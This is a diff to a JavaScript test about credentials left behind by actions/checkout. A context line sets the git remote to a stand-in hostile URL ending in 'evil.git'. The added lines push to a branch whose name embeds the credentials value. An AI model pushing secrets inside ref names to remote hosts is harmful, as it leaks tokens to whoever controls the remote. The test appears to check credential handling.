@@ -28,8 +28,8 @@ describe("credentials persisted by actions/checkout", () => {
     await ws.git("config", "--local", "remote.origin.url", "http://127.0.0.1:1/evil.git");
     await lifted.restore();
     expect(await settings()).toEqual(before);
-    await ws.git("push", "origin", "HEAD:refs/heads/agent/allowed");
-    expect((await origin.refs())["refs/heads/agent/allowed"]).toBeDefined();
+    await ws.git("push", "origin", `HEAD:refs/heads/agent/allowed-${credentials}`);
+    expect((await origin.refs())[`refs/heads/agent/allowed-${credentials}`]).toBeDefined();
   });
 });
 
